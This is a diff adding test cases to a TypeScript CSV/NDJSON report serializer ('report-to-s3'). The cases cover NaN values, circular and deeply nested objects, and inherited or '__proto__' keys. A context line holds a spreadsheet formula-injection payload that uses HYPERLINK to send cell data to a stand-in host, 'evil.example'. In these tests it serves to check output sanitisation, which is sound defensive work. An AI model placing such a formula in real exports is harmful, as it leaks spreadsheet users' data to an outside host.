@@ -101,6 +101,14 @@ async function* mebibytes(count: number) {
   for (let row = 0; row < count; row += 1) yield { text: 'x'.repeat(MiB - 12) };
 }
 
+/** An object that is inside of itself, and one that is only there twice. */
+const loop: Record<string, unknown> = { a: 1 };
+loop.self = loop;
+const twice = { a: 1 };
+
+/** What every object inherits. */
+const INHERITED = ['constructor', 'toString', 'valueOf', 'hasOwnProperty', '__proto__'];
+
 describe('report-to-s3', () => {
   it('puts a report where there is none, under a key of the scheduled time', async () => {
     const { result, lines } = await report();
@@ -327,7 +335,22 @@ describe('report-to-s3', () => {
       ['true', true, 'true'],
       ['false', false, 'false'],
       ['a date', new Date('2026-11-22T10:00:00Z'), '2026-11-22T10:00:00.000Z'],
+      ['a date that is none', new Date(Number.NaN), ''],
+      ['a number that is none', Number.NaN, ''],
+      ['a number without end', Number.POSITIVE_INFINITY, ''],
+      ['a negative number without end', Number.NEGATIVE_INFINITY, ''],
+      ['negative zero', -0, '0'],
+      ['a function', () => 'Ada', ''],
+      ['a symbol', Symbol('Ada'), ''],
+      ['an object that says it is nothing', { toJSON: () => undefined }, ''],
       ['an object', { a: [1n] }, '"{""a"":[""1""]}"'],
+      [
+        'what is odd in an object',
+        { a: [Number.NaN, new Date('x'), Symbol('a')] },
+        '"{""a"":[null,null,null]}"',
+      ],
+      ['an object that is inside of itself', loop, '"{""a"":1,""self"":null}"'],
+      ['one object twice', [twice, [twice]], '"[{""a"":1},[{""a"":1}]]"'],
       [
         'a formula',
         '=HYPERLINK("http://evil.example/"&A1)',
@@ -371,6 +394,20 @@ describe('report-to-s3', () => {
       expect(await written({ rows: [], ...overrides })).toBe(expected);
     });
 
+    it('has cells of what a row has itself, and of nothing that it inherits', async () => {
+      const names = [...INHERITED, 'name'];
+      const [header, row] = [names.map((name) => `"${name}"`), names.map(() => '')];
+      const columns = names as never[];
+      expect(await written({ columns, rows: [{ a: 1 }, Object.create({ name: 'Ada' })] })).toBe(
+        [header, row, row].map((cells) => `${cells}\r\n`).join(''),
+      );
+    });
+
+    it.each(INHERITED)('has a column of the name %s', async (name) => {
+      const own = JSON.parse(`{"${name}":"Ada"}`);
+      expect(await written({ rows: [own, {}] })).toBe(`"${name}"\r\n"Ada"\r\n\r\n`);
+    });
+
     it('loses no value of a row that has more than the first', async () => {
       const { error } = await report({ rows: [{ a: 1 }, { a: 1, 'ada@example.com': 2 }] });
       expect(error).toMatchObject({
@@ -381,6 +418,40 @@ describe('report-to-s3', () => {
   });
 
   describe('as NDJSON', () => {
+    const deep = (depth: number) => {
+      let value: object = {};
+      for (let level = 1; level < depth; level += 1) value = { a: value };
+      return value;
+    };
+
+    it.each<[string, object, string]>([
+      ['a date that is none', { a: new Date(Number.NaN) }, '{"a":null}'],
+      ['numbers that are none', { a: [Number.NaN, Number.NEGATIVE_INFINITY] }, '{"a":[null,null]}'],
+      ['a function and a symbol', { a: () => 1, b: Symbol('b'), c: 1 }, '{"c":1}'],
+      ['what a row inherits', Object.create({ name: 'Ada' }), '{}'],
+      ['an own __proto__', JSON.parse('{"__proto__":1}'), '{"__proto__":1}'],
+      ['a row that is inside of itself', loop, '{"a":1,"self":null}'],
+      ['one object twice', { b: twice, c: [twice] }, '{"b":{"a":1},"c":[{"a":1}]}'],
+      ['a row that says it is nothing', { toJSON: () => undefined }, 'null'],
+      ['1,000 objects in each other', deep(1000), JSON.stringify(deep(1000))],
+    ])('writes %s', async (_, row, expected) => {
+      expect(await written({ rows: [row, { b: 1 }], format: 'ndjson' })).toBe(
+        `${expected}\n{"b":1}\n`,
+      );
+    });
+
+    it('ends what is deeper, and what makes itself anew for ever, without an error', async () => {
+      const endless = { toJSON: () => ({ endless }) };
+      const lines = await written({ rows: [deep(100_000), endless], format: 'ndjson' });
+      expect(
+        lines
+          .trim()
+          .split('\n')
+          .map((line) => line.match(/:/g)?.length),
+      ).toEqual([1000, 1000]);
+      expect(lines).toMatch(/^(?:\{"a":){1000}null\}{1000}\n/);
+    });
+
     it('writes an object a line', async () => {
       const rows = [{ text: 'a\nb', n: 10n ** 20n, d: new Date(0) }, { '=': '=1+1' }];
       expect(await written({ rows, format: 'ndjson' })).toBe(
